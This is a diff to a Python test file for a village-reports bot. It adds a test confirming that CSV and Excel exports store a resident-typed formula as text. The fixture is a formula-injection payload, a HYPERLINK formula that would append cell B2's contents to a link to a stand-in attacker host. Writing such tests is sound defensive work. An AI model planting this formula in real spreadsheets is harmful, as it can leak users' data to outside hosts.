@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import asyncio
+import csv
 from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 
 from bot.cli import main
 from bot.spreadsheets import read_table
@@ -58,6 +61,30 @@ def test_export_refuses_a_bad_month_and_an_unknown_village(capsys: pytest.Captur
     bad_month = main(["reports", "export", "--village", "FX01", "--month", "2026-13"])
     unknown = main(["reports", "export", "--village", "ZZ99", "--month", "2026-11"])
 
+    err = capsys.readouterr().err
     assert bad_month == 2
     assert unknown == 1
-    assert "not a month" in capsys.readouterr().err
+    assert "2026-13 不是月份（请写成 2026-11 这样）。" in err
+    assert "没有代码为 ZZ99 的村。" in err  # names the village, not the chat's 抱歉，没有找到
+
+
+@pytest.mark.usefixtures("filed")
+async def test_export_keeps_a_formula_typed_by_a_resident_as_text(database: Database, clock: ManualClock,
+                                                                  tmp_path: Path,
+                                                                  capsys: pytest.CaptureFixture[str]) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"点这里")'
+    wang = Actor.of(await person_by_phone(database, "13800000003"))
+    async with database.transaction() as store:
+        await Services(store, clock, VillageSettings()).reports.file(wang, ReportDraft("绿化", formula,
+                                                                                         address="@SUM(A1)"))
+    out = tmp_path / "reports.xlsx"
+
+    to_stdout = await asyncio.to_thread(main, ["reports", "export", "--village", "FX01", "--month", "2026-11"])
+    to_file = await asyncio.to_thread(main, ["reports", "export", "--village", "FX01", "--month", "2026-11",
+                                             "--out", str(out)])
+
+    row = next(csv.reader(line for line in capsys.readouterr().out.splitlines() if "HYPERLINK" in line))
+    cell = load_workbook(out).worksheets[0]["H4"]
+    assert (to_stdout, to_file) == (0, 0)
+    assert ("'" + formula, "'@SUM(A1)") == (row[7], row[8])
+    assert (cell.data_type, cell.value) == ("s", "'" + formula)
